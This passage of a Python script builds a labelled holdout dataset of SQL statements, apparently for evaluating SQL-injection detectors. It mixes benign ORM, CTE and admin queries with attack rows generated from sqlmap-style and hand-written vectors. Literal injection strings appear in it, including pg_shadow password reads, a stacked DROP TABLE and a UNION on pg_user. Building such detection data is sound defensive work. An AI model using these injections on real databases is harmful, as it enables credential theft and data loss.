            spliced = raw.replace("'", "''")
        else:
            return
        kinds = dict(t["slots"])
        others = default_fills(t, slot)
        contents = {n: escape(kinds[n], v) for n, v in others.items()}
        contents[slot] = spliced
        sql, checks = render(t, contents)
        inputs = [raw if n == slot else others[n] for n, _ in t["slots"]]
        ok = label_ok(sql, checks)
        if ok:
            emit(sql, "benign", "escaped_attack_string", t["name"], inputs, "escaped:backslash-style:" + core, raw)
        else:
            emit(sql, "attack", "escape_bypass_backslash", t["name"], inputs, "hand:escape_bypass_backslash:" + ("mysql_style" if kind == "str" else "estr_doubling"), raw)


# ---------------------------------------------------------------------------
# Complex benign statements (hx_*); {s} string, {i} integer, {d} date,
# {w} word (escaped correctly for its literal).
# ---------------------------------------------------------------------------
COMPLEX = [
    ("complex_orm_generated", "hx_django_annotate", "SELECT \"shop_order\".\"id\", \"shop_order\".\"status\", COUNT(\"shop_orderline\".\"id\") AS \"line_count\" FROM \"shop_order\" LEFT OUTER JOIN \"shop_orderline\" ON (\"shop_order\".\"id\" = \"shop_orderline\".\"order_id\") WHERE \"shop_order\".\"customer_name\" = '{s}' GROUP BY \"shop_order\".\"id\" ORDER BY \"shop_order\".\"created\" DESC LIMIT 21"),
    ("complex_orm_generated", "hx_sqlalchemy_in", "SELECT users.id AS users_id, users.name AS users_name FROM users WHERE users.name IN ('{s}', 'alpha', 'beta') AND users.deleted_at IS NULL ORDER BY users.id\n LIMIT {i} OFFSET 0"),
    ("complex_orm_generated", "hx_hibernate_paging", "select p1_0.id,p1_0.title,p1_0.version from post p1_0 where p1_0.title like ('%'||'{s}'||'%') escape '' order by p1_0.id offset {i} rows fetch first 10 rows only"),
    ("complex_orm_generated", "hx_rails_update", "UPDATE \"accounts\" SET \"display_name\" = '{s}', \"updated_at\" = '{d} 10:22:31.118512' WHERE \"accounts\".\"id\" = {i}"),
    ("complex_orm_generated", "hx_sequelize_returning", "INSERT INTO \"Comments\" (\"id\",\"body\",\"postId\",\"createdAt\",\"updatedAt\") VALUES (DEFAULT,'{s}',{i},'{d} 08:00:00.000 +00:00','{d} 08:00:00.000 +00:00') RETURNING \"id\",\"body\",\"postId\",\"createdAt\",\"updatedAt\";"),
    ("complex_orm_generated", "hx_typeorm_join", "SELECT \"Photo\".\"id\" AS \"Photo_id\", \"Photo\".\"name\" AS \"Photo_name\", \"Photo__Photo_album\".\"title\" AS \"Photo__Photo_album_title\" FROM \"photo\" \"Photo\" LEFT JOIN \"album\" \"Photo__Photo_album\" ON \"Photo__Photo_album\".\"id\"=\"Photo\".\"albumId\" WHERE ((\"Photo\".\"name\" = '{s}')) AND (\"Photo\".\"isPublished\" = true)"),
    ("complex_orm_generated", "hx_laravel_whereraw", "select * from \"orders\" where \"status\" = 'shipped' and (\"total\" > {i} or \"vip\" = true) and \"deleted_at\" is null order by \"created_at\" desc limit 15 offset 0"),
    ("complex_orm_generated", "hx_sqlx_upsert", "INSERT INTO kv_store (namespace, k, v, updated_at) VALUES ('{w}', '{s}', '{{\"hits\": {i}}}'::jsonb, now()) ON CONFLICT (namespace, k) DO UPDATE SET v = kv_store.v || EXCLUDED.v, updated_at = EXCLUDED.updated_at WHERE kv_store.v IS DISTINCT FROM EXCLUDED.v"),
    ("complex_orm_generated", "hx_ef_core_split", "SELECT b.\"BlogId\", b.\"Url\", p.\"PostId\", p.\"Title\" FROM \"Blogs\" AS b LEFT JOIN \"Posts\" AS p ON b.\"BlogId\" = p.\"BlogId\" WHERE b.\"Rating\" > {i} ORDER BY b.\"BlogId\""),
    ("complex_query_builder", "hx_knex_where_in_sub", "select \"id\", \"email\" from \"subscribers\" where \"list_id\" in (select \"id\" from \"lists\" where \"owner\" = '{s}') and \"confirmed\" = true"),
    ("complex_query_builder", "hx_jooq_exists", "select \"t\".\"id\" from \"public\".\"teams\" as \"t\" where exists (select 1 as \"one\" from \"public\".\"memberships\" as \"m\" where (\"m\".\"team_id\" = \"t\".\"id\" and \"m\".\"role\" = '{w}'))"),
    ("complex_query_builder", "hx_builder_1eq1", "SELECT id, name FROM products WHERE 1=1 AND category = '{s}' AND price <= {i} ORDER BY name"),
    ("complex_query_builder", "hx_builder_or_group", "SELECT * FROM tickets WHERE (priority = 'high' OR (priority = 'normal' AND age_days > {i})) AND queue = '{s}' LIMIT 100"),
    ("complex_cte_window", "hx_running_total", "WITH daily AS (SELECT date_trunc('day', paid_at)::date AS d, sum(amount) AS amt FROM payments WHERE paid_at >= '{d}' GROUP BY 1) SELECT d, amt, sum(amt) OVER (ORDER BY d ROWS BETWEEN UNBOUNDED PRECEDING AND CURRENT ROW) AS running FROM daily ORDER BY d"),
    ("complex_cte_window", "hx_dedupe_row_number", "WITH ranked AS (SELECT id, email, row_number() OVER (PARTITION BY lower(email) ORDER BY created_at) AS rn FROM leads WHERE source = '{s}') DELETE FROM leads WHERE id IN (SELECT id FROM ranked WHERE rn > 1)"),
    ("complex_cte_window", "hx_gaps_islands", "SELECT user_id, min(d) AS streak_start, max(d) AS streak_end, count(*) AS days FROM (SELECT user_id, d, d - (row_number() OVER (PARTITION BY user_id ORDER BY d))::int AS grp FROM logins_daily WHERE d >= '{d}') s GROUP BY user_id, grp HAVING count(*) >= {i} ORDER BY days DESC"),
    ("complex_cte_window", "hx_moving_avg", "SELECT ts, value, avg(value) OVER w AS ma7, value - lag(value) OVER w AS delta FROM metrics WHERE series = '{s}' WINDOW w AS (ORDER BY ts ROWS 6 PRECEDING)"),
    ("complex_cte_window", "hx_recursive_bom", "WITH RECURSIVE bom(part, sub, qty, lvl) AS (SELECT part, sub, qty, 1 FROM assemblies WHERE part = '{s}' UNION ALL SELECT a.part, a.sub, a.qty * b.qty, b.lvl + 1 FROM assemblies a JOIN bom b ON a.part = b.sub WHERE b.lvl < {i}) SELECT sub, sum(qty) FROM bom GROUP BY sub"),
    ("complex_cte_window", "hx_ntile_buckets", "SELECT customer_id, total, ntile(4) OVER (ORDER BY total DESC) AS quartile, percent_rank() OVER (ORDER BY total) AS pr FROM (SELECT customer_id, sum(amount) AS total FROM orders WHERE region = '{s}' GROUP BY customer_id) t"),
    ("complex_cte_window", "hx_writable_cte", "WITH moved AS (DELETE FROM inbox WHERE received < '{d}' RETURNING *) INSERT INTO inbox_archive SELECT * FROM moved"),
    ("complex_cte_window", "hx_first_value", "SELECT DISTINCT dept, first_value(name) OVER (PARTITION BY dept ORDER BY salary DESC) AS top_earner, last_value(name) OVER (PARTITION BY dept ORDER BY salary DESC RANGE BETWEEN UNBOUNDED PRECEDING AND UNBOUNDED FOLLOWING) AS lowest FROM employees WHERE site = '{s}'"),
    ("complex_union_report", "hx_union_sources", "SELECT 'web' AS source, count(*) FROM signups WHERE channel = 'web' AND created_at >= '{d}' UNION ALL SELECT 'app', count(*) FROM signups WHERE channel = 'app' AND created_at >= '{d}' UNION ALL SELECT 'partner', count(*) FROM partner_signups WHERE partner = '{s}'"),
    ("complex_union_report", "hx_union_search", "SELECT 'user' AS kind, id, name AS label FROM users WHERE name ILIKE '%{s}%' UNION SELECT 'team', id, title FROM teams WHERE title ILIKE '%{s}%' ORDER BY 3 LIMIT {i}"),
    ("complex_union_report", "hx_intersect_except", "SELECT customer_id FROM orders WHERE placed_at >= '{d}' INTERSECT SELECT customer_id FROM newsletter_subs EXCEPT SELECT customer_id FROM unsubscribed"),
    ("complex_builtin_funcs", "hx_string_funcs", "SELECT initcap('{s}'), reverse('{s}'), md5('{s}'), length('{s}'), split_part('a,b,c', ',', 2), translate('{w}', 'abc', 'xyz')"),
    ("complex_builtin_funcs", "hx_date_funcs", "SELECT date_trunc('week', date '{d}'), extract(isodow FROM date '{d}'), age(date '{d}', date '2000-01-01'), to_char(date '{d}', 'Dy DD Mon YYYY'), date '{d}' + {i}"),
    ("complex_builtin_funcs", "hx_json_build", "SELECT json_build_object('id', {i}, 'name', '{s}', 'tags', json_build_array('a', 'b'), 'meta', jsonb_strip_nulls('{{\"x\": null, \"y\": 1}}'::jsonb))"),
    ("complex_builtin_funcs", "hx_regexp_funcs", "SELECT regexp_replace('{s}', '[^a-z0-9]+', '-', 'gi') AS slug, regexp_split_to_array('{w} one two', '\\s+') AS parts, '{w}' ~* '^[a-z]' AS starts_alpha"),
    ("complex_builtin_funcs", "hx_array_funcs", "SELECT array_position(ARRAY['a','b','{w}'], '{w}'), cardinality(ARRAY[1,2,{i}]), array_to_string(ARRAY['x', NULL, 'z'], '/', '*'), unnest(ARRAY[{i}, {i}+1])"),
    ("complex_builtin_funcs", "hx_chr_ascii_legit", "SELECT chr(65) || chr(66) AS ab, ascii('{w}') AS code, quote_literal('{s}') AS lit, quote_ident('{w}') AS ident, format('%I.%L', 'public', '{s}')"),
    ("complex_builtin_funcs", "hx_catalog_size", "SELECT pg_size_pretty(pg_total_relation_size(c.oid)) AS size, c.relname FROM pg_class c JOIN pg_namespace n ON n.oid = c.relnamespace WHERE n.nspname = 'public' AND c.relkind = 'r' ORDER BY pg_total_relation_size(c.oid) DESC LIMIT {i}"),
    ("complex_builtin_funcs", "hx_generate_series_cal", "SELECT d::date, to_char(d, 'Dy') FROM generate_series(date '{d}', date '{d}' + interval '6 days', interval '1 day') AS g(d)"),
    ("complex_builtin_funcs", "hx_version_probe", "SELECT version(), current_setting('server_version_num')::int >= 150000 AS pg15, current_database(), current_user"),
    ("complex_search_complex", "hx_websearch_rank", "SELECT id, title, ts_rank_cd(tsv, query) AS rank FROM docs, websearch_to_tsquery('english', '{s}') query WHERE tsv @@ query ORDER BY rank DESC LIMIT 20"),
    ("complex_search_complex", "hx_trigram_ilike", "SELECT id, name, word_similarity('{s}', name) AS sim FROM places WHERE name ILIKE '%{w}%' OR '{s}' <% name ORDER BY sim DESC LIMIT 10"),
    ("complex_search_complex", "hx_like_escape_underscore", "SELECT id FROM files WHERE name LIKE 'report\\_{i}%' ESCAPE '\\' AND owner = '{s}'"),
    ("complex_batch_insert", "hx_multi_values", "INSERT INTO tags (name, slug, created_at) VALUES ('{s}', '{w}', now()), ('Union Station', 'union-station', now()), ('drop-offs', 'drop-offs', now()) ON CONFLICT (slug) DO NOTHING"),
    ("complex_batch_insert", "hx_insert_unnest", "INSERT INTO readings (sensor_id, ts, value) SELECT * FROM unnest(ARRAY[{i}, {i}, {i}], ARRAY['{d} 00:00'::timestamptz, '{d} 01:00', '{d} 02:00'], ARRAY[1.5, 2.25, -0.5])"),
    ("complex_batch_insert", "hx_update_from_values", "UPDATE prices p SET amount = v.amount FROM (VALUES ('{w}', {i}.99), ('B-2', 5.00), ('C-3', 12.50)) AS v(sku, amount) WHERE p.sku = v.sku"),
    ("complex_ddl_migration", "hx_add_column_default", "ALTER TABLE accounts ADD COLUMN IF NOT EXISTS locale text NOT NULL DEFAULT '{w}'"),
    ("complex_ddl_migration", "hx_create_table_fk", "CREATE TABLE IF NOT EXISTS order_notes (id bigserial PRIMARY KEY, order_id bigint NOT NULL REFERENCES orders(id) ON DELETE CASCADE, body text NOT NULL CHECK (length(body) <= {i}), created_at timestamptz NOT NULL DEFAULT now())"),
    ("complex_ddl_migration", "hx_create_view", "CREATE OR REPLACE VIEW active_customers AS SELECT c.id, c.name, max(o.placed_at) AS last_order FROM customers c JOIN orders o ON o.customer_id = c.id WHERE o.placed_at > now() - interval '{i} days' GROUP BY c.id, c.name"),
    ("complex_ddl_migration", "hx_create_enum", "CREATE TYPE ticket_state AS ENUM ('new', 'open', 'on hold', 'won''t fix', 'closed')"),
    ("complex_ddl_migration", "hx_alter_constraint", "ALTER TABLE shipments ADD CONSTRAINT shipments_weight_chk CHECK (weight_g > 0 AND weight_g < {i}000) NOT VALID"),
    ("complex_ddl_migration", "hx_create_index_expr", "CREATE INDEX CONCURRENTLY IF NOT EXISTS users_lower_email_idx ON users (lower(email)) WHERE deleted_at IS NULL"),
    ("complex_ddl_migration", "hx_comment_table", "COMMENT ON TABLE members IS 'Application users. Do NOT drop: referenced by billing; see {s}'"),
    ("complex_ddl_migration", "hx_grant_select", "GRANT SELECT, INSERT, UPDATE ON TABLE public.orders TO app_rw"),
    ("complex_ddl_migration", "hx_materialized_view", "CREATE MATERIALIZED VIEW IF NOT EXISTS sales_by_day AS SELECT date_trunc('day', sold_at) AS day, sum(amount) AS total FROM sales GROUP BY 1 WITH NO DATA"),
    ("complex_migration_script", "hx_alembic_batch", "BEGIN;\nCREATE TABLE alembic_version (version_num VARCHAR(32) NOT NULL, CONSTRAINT alembic_version_pkc PRIMARY KEY (version_num));\n-- Running upgrade  -> {w}\nALTER TABLE users ADD COLUMN nickname VARCHAR(50);\nINSERT INTO alembic_version (version_num) VALUES ('{w}') RETURNING alembic_version.version_num;\nCOMMIT;"),
    ("complex_migration_script", "hx_flyway_style", "-- V{i}__add_audit.sql\nCREATE TABLE audit_events (id bigint GENERATED ALWAYS AS IDENTITY, actor text, action text, at timestamptz DEFAULT now());\nCREATE INDEX audit_events_at_idx ON audit_events (at);\nALTER TABLE audit_events OWNER TO app_owner;"),
    ("complex_migration_script", "hx_rename_backfill", "ALTER TABLE customers RENAME COLUMN fullname TO full_name;\nUPDATE customers SET full_name = trim(full_name) WHERE full_name <> trim(full_name);\nALTER TABLE customers ALTER COLUMN full_name SET NOT NULL;"),
    ("complex_migration_script", "hx_drop_old", "DROP INDEX IF EXISTS orders_legacy_idx;\nDROP TABLE IF EXISTS tmp_import_{i};\nDROP FUNCTION IF EXISTS legacy_total(integer);"),
    ("complex_copy_stdin", "hx_copy_from_stdin", "COPY public.cities (id, name, country) FROM stdin WITH (FORMAT text, DELIMITER E'\\t', NULL '\\N')"),
    ("complex_copy_stdin", "hx_copy_csv_opts", "COPY staging_orders FROM STDIN WITH (FORMAT csv, HEADER true, DELIMITER ',', NULL 'NULL', QUOTE '\"', ESCAPE '\\')"),
    ("complex_copy_stdin", "hx_copy_to_stdout", "COPY (SELECT id, name FROM cities WHERE country = '{w}' ORDER BY id) TO STDOUT WITH (FORMAT csv, FORCE_QUOTE *)"),
    ("complex_plpgsql_body", "hx_fn_touch", "CREATE OR REPLACE FUNCTION touch_updated_at() RETURNS trigger LANGUAGE plpgsql AS $$\nBEGIN\n  NEW.updated_at := now(); -- keep in sync\n  RETURN NEW;\nEND;\n$$"),
    ("complex_plpgsql_body", "hx_fn_dynamic_partition", "CREATE OR REPLACE FUNCTION ensure_partition(d date) RETURNS void LANGUAGE plpgsql AS $fn$\nDECLARE p text := 'events_' || to_char(d, 'YYYYMM');\nBEGIN\n  EXECUTE format('CREATE TABLE IF NOT EXISTS %I PARTITION OF events FOR VALUES FROM (%L) TO (%L)', p, date_trunc('month', d), date_trunc('month', d) + interval '1 month');\nEND\n$fn$"),
    ("complex_plpgsql_body", "hx_do_seed", "DO $seed$\nBEGIN\n  IF NOT EXISTS (SELECT 1 FROM roles WHERE name = '{w}') THEN\n    INSERT INTO roles(name) VALUES ('{w}');\n  END IF;\nEND\n$seed$"),
    ("complex_plpgsql_body", "hx_sql_fn_single_quoted", "CREATE FUNCTION add_tax(numeric) RETURNS numeric AS 'SELECT $1 * 1.{i}' LANGUAGE sql IMMUTABLE"),
    ("complex_plpgsql_body", "hx_fn_raise", "CREATE OR REPLACE FUNCTION check_stock(p_sku text) RETURNS int LANGUAGE plpgsql AS $body$\nDECLARE q int;\nBEGIN\n  SELECT qty INTO q FROM stock WHERE sku = p_sku;\n  IF q IS NULL THEN RAISE EXCEPTION 'unknown sku %', p_sku USING ERRCODE = 'P0002'; END IF;\n  RETURN q;\nEND\n$body$"),
    ("complex_comments_hints", "hx_leading_block_comment", "/* dashboard:revenue owner=bi */ SELECT sum(total) FROM orders WHERE placed_at >= '{d}'"),
    ("complex_comments_hints", "hx_sqlcommenter_tail", "SELECT id, status FROM jobs WHERE queue = '{w}' /*controller='jobs',action='index',traceparent='00-5bd66ef5095369c7b0d1f8f4bd33716a-c532cb4098ac3dd2-01'*/"),
    ("complex_comments_hints", "hx_pg_hint", "/*+ IndexScan(o orders_customer_idx) Leading((o c)) */ SELECT o.id FROM orders o JOIN customers c ON c.id = o.customer_id WHERE c.email = '{s}'"),
    ("complex_comments_hints", "hx_line_comments_mid", "SELECT id,\n       name -- display name, may contain ' quotes\n  FROM vendors\n WHERE active -- and not deleted\n   AND region = '{w}'"),
    ("complex_comments_hints", "hx_comment_with_sql", "-- TODO: replace with UNION SELECT once reports are merged; DROP old view later\nSELECT * FROM report_v2 WHERE year = {i}"),
    ("complex_maintenance_admin", "hx_vacuum_analyze", "VACUUM (VERBOSE, ANALYZE) public.orders"),
    ("complex_maintenance_admin", "hx_analyze_table", "ANALYZE VERBOSE inventory"),
    ("complex_maintenance_admin", "hx_reindex", "REINDEX TABLE CONCURRENTLY order_notes"),
    ("complex_maintenance_admin", "hx_refresh_matview", "REFRESH MATERIALIZED VIEW CONCURRENTLY sales_by_day"),
    ("complex_maintenance_admin", "hx_activity_probe", "SELECT pid, usename, application_name, state, wait_event_type, now() - query_start AS running_for, left(query, 80) FROM pg_stat_activity WHERE datname = current_database() AND state <> 'idle' ORDER BY running_for DESC NULLS LAST"),
    ("complex_maintenance_admin", "hx_locks_probe", "SELECT l.locktype, l.mode, l.granted, c.relname FROM pg_locks l LEFT JOIN pg_class c ON c.oid = l.relation WHERE NOT l.granted"),
    ("complex_maintenance_admin", "hx_bloat_probe", "SELECT schemaname, relname, n_dead_tup, n_live_tup, last_autovacuum FROM pg_stat_user_tables WHERE n_dead_tup > {i} ORDER BY n_dead_tup DESC"),
    ("complex_maintenance_admin", "hx_advisory_xact", "SELECT pg_try_advisory_xact_lock(hashtextextended('{w}', 0))"),
    ("complex_maintenance_admin", "hx_cluster", "CLUSTER VERBOSE orders USING orders_pkey"),
    ("complex_maintenance_admin", "hx_checkpoint_like_stats", "SELECT checkpoints_timed, checkpoints_req, buffers_checkpoint FROM pg_stat_bgwriter"),
    ("complex_session", "hx_set_timezone", "SET TIME ZONE '{tz}'"),
    ("complex_session", "hx_set_search_path", "SET search_path TO app, public"),
    ("complex_session", "hx_show", "SHOW server_version"),
    ("complex_session", "hx_set_statement_timeout", "SET statement_timeout = '{i}s'"),
    ("complex_session", "hx_reset_all", "RESET ALL"),
    ("complex_session", "hx_discard_all", "DISCARD ALL"),
    ("complex_session", "hx_set_role_local", "SET LOCAL ROLE app_readonly"),
    ("complex_session", "hx_set_config_rls", "SELECT set_config('app.current_tenant', '{i}', true)"),
    ("complex_transactions", "hx_tx_serializable", "BEGIN ISOLATION LEVEL SERIALIZABLE; UPDATE accounts SET balance = balance - {i} WHERE id = 1; UPDATE accounts SET balance = balance + {i} WHERE id = 2; COMMIT;"),
    ("complex_transactions", "hx_savepoint", "SAVEPOINT before_import; INSERT INTO imports(name) VALUES ('{s}'); RELEASE SAVEPOINT before_import;"),
    ("complex_transactions", "hx_rollback_to", "ROLLBACK TO SAVEPOINT sp_{i}"),
    ("complex_transactions", "hx_start_readonly", "START TRANSACTION READ ONLY, ISOLATION LEVEL REPEATABLE READ"),
    ("complex_transactions", "hx_lock_table", "BEGIN; LOCK TABLE inventory IN SHARE ROW EXCLUSIVE MODE; SELECT sum(qty) FROM inventory WHERE sku = '{w}'; COMMIT;"),
    ("complex_parameterized", "hx_param_login", "SELECT id, pass_hash FROM members WHERE lower(login) = lower($1) AND NOT locked LIMIT 1"),
    ("complex_parameterized", "hx_param_insert", "INSERT INTO events (kind, payload, at) VALUES ($1, $2::jsonb, coalesce($3, now())) RETURNING id"),
]
TZS = ["UTC", "Europe/Lisbon", "America/Chicago", "Asia/Kathmandu", "Australia/Lord_Howe", "+02:00"]
COMPLEX_WORDS = ["alpha", "north", "ops", "qa-team", "x1", "billing", "default", "en_US"]
COMPLEX_STRS = ["O'Hara", "Union Station", "select best", "Zoë", "drop-in center", "a--b", "50% off", "Tom's Diner", "plain", "C:\\temp"]


def complex_rows():
    for fam, name, sql in COMPLEX:
        n = 1 if "{" not in sql.replace("{{", "") else 5
        made = 0
        for _ in range(n * 3):
            if made >= n:
                break
            s = R.choice(COMPLEX_STRS).replace("'", "''")
            w = R.choice(COMPLEX_WORDS)
            out = (sql.replace("{s}", s).replace("{w}", w).replace("{i}", str(R.choice([2, 7, 30, 90, 250, 1000])))
                   .replace("{d}", R.choice(DATES[1][:5])).replace("{tz}", R.choice(TZS)).replace("{{", "{").replace("}}", "}"))
            if emit(out, "benign", fam, name, [], "complex:" + name):
                made += 1


# ---------------------------------------------------------------------------
# Main
# ---------------------------------------------------------------------------
def pick_sqlmap(tech):
    cands = [v for v in SQLMAP if v[0] == tech]
    # about half PostgreSQL, the rest other DBMSes (sqlmap tries them all)
    pg = [v for v in cands if v[1] in ("PostgreSQL", "generic")]
    other = [v for v in cands if v[1] not in ("PostgreSQL", "generic")]
    return R.choice(pg if (R.random() < 0.55 or not other) else other)


def attack_slots(t):
    return [(n, k) for n, k in t["slots"]]


SQLMAP_PLAN = [("time", 5), ("boolean", 5), ("error", 4), ("stacked", 2), ("union", 2), ("inline", 1)]
HAND_PLAN = ["tautology", "tautology", "stacked", "time_pg_sleep", "boolean_blind", "error_cast", "oob_file_program",
             "oob_file_program", "plpgsql_do_exec", "union", "dollar_quote", "e_escape", "obf_unicode_escape", "obf_chr_concat"]


def main():
    for t in TEMPLATES:
        slots = attack_slots(t)
        # ---------------- sqlmap attacks
        for tech, count in SQLMAP_PLAN:
            made, tries = 0, 0
            while made < count and tries < count * 6:
                tries += 1
                slot, kind = R.choice(slots)
                if tech == "union":
                    dbms = R.choice(["PostgreSQL", "PostgreSQL", "PostgreSQL", "MySQL", "Microsoft SQL Server", "Oracle", "generic"])
                    vec = union_vector(dbms) if R.random() < 0.8 else order_probe()
                    title = "Generic UNION query (NULL) - 1 to 10 columns" if vec.startswith("UNION") else "ORDER BY column count probe"
                else:
                    _, dbms, title, vec = pick_sqlmap(tech)
                if kind == "dollar":
                    continue
                raw = sqlmap_attack(t, slot, kind, tech, dbms, title, vec)
                if raw is None:
                    continue
                res = attack_row(t, slot, raw, SQLMAP_FAMILY[tech], f"sqlmap:{dbms}:{title}")
                if res == "attack":
                    made += 1
        # ---------------- hand-written attacks
        fams = R.sample(HAND_PLAN, 8)
        for fam in fams:
            made, tries = 0, 0
            while made < 1 and tries < 6:
                tries += 1
                slot, kind = R.choice(slots)
                core = R.choice(HAND[fam])
                res = hand_attack(t, slot, kind, fam, core, str(HAND[fam].index(core)))
                if res == "attack":
                    made += 1
        # obfuscations
        for obf in R.sample(sorted(OBFS), 3):
            for _ in range(4):
                slot, kind = R.choice(slots)
                bfam, core = R.choice(OBF_BASES)
                res = hand_attack(t, slot, kind, obf, OBFS[obf](core), f"{bfam}")
                if res == "attack":
                    break
        # comment truncation and concatenation
        for slot, kind in slots:
            if kind in ("str", "estr"):
                for tl in R.sample(["--", "/*", "-- ", ";--", "--'", "/*x", "#"], 1):
                    pre = R.choice(["admin", "root", "x", "support", ""])
                    close = t["close"] if R.random() < 0.7 else R.choice(["'", "')"])
                    attack_row(t, slot, pre + close + tl, "comment_truncation", f"hand:comment_truncation|close={close} tail={tl}")
                if R.random() < 0.6:
                    fam, c = R.choice(CONCAT)
                    attack_row(t, slot, R.choice(["", "x", "a1"]) + c + R.choice(["", "z"]), fam, f"hand:{fam}:concat")
                backslash_attacks(t, slot, kind)
            elif kind in ("num", "numlist") and R.random() < 0.6:
                fam, c = R.choice(NUM_EXPR)
                attack_row(t, slot, c, fam, f"hand:{fam}:num_expr")
            elif kind == "ident":
                for raw in R.sample(['x" FROM pg_shadow --', 'a", (SELECT passwd FROM pg_shadow LIMIT 1) AS "b', '"; DROP TABLE survey_answers; --', 'id" UNION SELECT usename FROM pg_user --'], 2):
                    fam = "stacked" if ";" in raw else "union" if "UNION" in raw else "string_concat_subquery"
                    attack_row(t, slot, raw, fam, f"hand:{fam}:ident_breakout")
        # ---------------- benign inputs
        for slot, kind in slots:
            if kind in ("str", "estr", "ident", "dollar"):
                if kind == "ident":
                    for v in IDENT_BENIGN:
                        benign_row(t, slot, v, "input_identifier", "benign:input_identifier")
                    pools = []
                elif kind == "dollar":
                    for v in DOLLAR_BENIGN:
                        benign_row(t, slot, v, "input_code_snippet", "benign:input_code_snippet")
                    pools = []
                else:
                    pools = sorted(BENIGN)
                    if slot in t["vals"]:
                        fam, vals = t["vals"][slot]
                        for v in vals:
                            benign_row(t, slot, v, fam, f"benign:{fam}")
                        pools = R.sample(pools, 4)
                    elif len(slots) > 1:
                        pools = R.sample(pools, 7)
                doubled = set(R.sample(pools, len(pools) // 2)) if len(slots) == 1 else set()
                for fam in pools:
                    k = 2 if (kind == "estr" or fam in doubled) else 1
                    for v in R.sample(BENIGN[fam], min(k, len(BENIGN[fam]))):
                        benign_row(t, slot, v, fam, f"benign:{fam}")
                # escaped attack strings: payloads escaped correctly
                if kind in ("str", "estr", "ident"):
                    for _ in range(3 if len(slots) == 1 else 2):
                        if R.random() < 0.5:
                            tech = R.choice(["time", "boolean", "error", "stacked", "union"])
                            dbms = "PostgreSQL"
                            vec = union_vector(dbms) if tech == "union" else pick_sqlmap(tech)[3]
                            raw = sqlmap_attack(t, slot, "str", tech, dbms, "", vec) or "1' OR '1'='1"
                        else:
                            fam = R.choice(sorted(HAND))
                            raw = R.choice(["x' ", "admin'", "')", "1' "]) + R.choice(HAND[fam]) + R.choice(["--", " -- -", ""])
                        benign_row(t, slot, raw, "escaped_attack_string", "escaped")
                elif kind == "dollar":
                    for core in R.sample(HAND["stacked"], 3):
                        benign_row(t, slot, "'); " + core.lstrip("; ") + "; --", "escaped_attack_string", "escaped:dollar_without_tag")
            elif kind == "num":
                for v in R.sample(NUM_BENIGN, 8):
                    benign_row(t, slot, v, "input_numeric", "benign:input_numeric")
            elif kind == "numlist":
                for v in NUMLIST_BENIGN:
                    benign_row(t, slot, v, "input_numeric", "benign:input_numeric")
            elif kind == "col":
                fam, vals = t["vals"].get(slot, ("input_identifier", COL_BENIGN))
                for v in vals:
                    benign_row(t, slot, v, fam, f"benign:{fam}")
            elif kind == "dir":
                for v in DIR_BENIGN:
                    benign_row(t, slot, v, "input_identifier", "benign:input_identifier")
    complex_rows()


# ---------------------------------------------------------------------------
# PostgreSQL parse check
# ---------------------------------------------------------------------------
def pg_parses(port, sql):
    p = subprocess.run(["/usr/lib/postgresql/15/bin/psql", "-X", "-q", "-h", "/tmp", "-p", str(port), "-U", "postgres", "-d", "postgres",
                        "-v", "VERBOSITY=verbose", "-c", "SELECT 1/0;\n" + sql],
                       capture_output=True, text=True, timeout=30)
    err = p.stderr
    if "22012" in err:
        return True
    if "ERROR" in err:
        return False
    raise SystemExit(f"unexpected psql result for {sql!r}: {p.stdout} {err}")


def previous_parses():
    if not os.path.exists(OUT):
        return {}
    got = {}
    with gzip.open(OUT, "rt", encoding="utf-8") as f:
        for line in f:
            r = json.loads(line)
            if "parses" in r:
                got[r["sql"]] = r["parses"]
    return got


if __name__ == "__main__":
    main()
    port = None
    if "--pg-port" in sys.argv:
        port = int(sys.argv[sys.argv.index("--pg-port") + 1])
    known = {} if port else previous_parses()
    for i, r in enumerate(ROWS):
        r["id"] = f"holdout-{i:05d}"
        if port:
            r["parses"] = pg_parses(port, r["sql"])
        elif r["sql"] in known:
            r["parses"] = known[r["sql"]]
    keys = ("id", "sql", "label", "family", "template", "input", "inputs", "variant", "parses")
    with gzip.GzipFile(OUT, "wb", mtime=0) as raw, io.TextIOWrapper(raw, encoding="utf-8") as f:
        for r in ROWS:
            f.write(json.dumps({k: r[k] for k in keys if k in r}, ensure_ascii=False) + "\n")
    c = collections.Counter((r["label"], r["family"]) for r in ROWS)
    for k in sorted(c):
        print(k[0], k[1], c[k])
    print("total", len(ROWS), "attacks", sum(r["label"] == "attack" for r in ROWS))
    if any("parses" in r for r in ROWS):
        pc = collections.Counter((r["label"], r.get("parses")) for r in ROWS)
        print("parses", dict(sorted(pc.items(), key=str)))
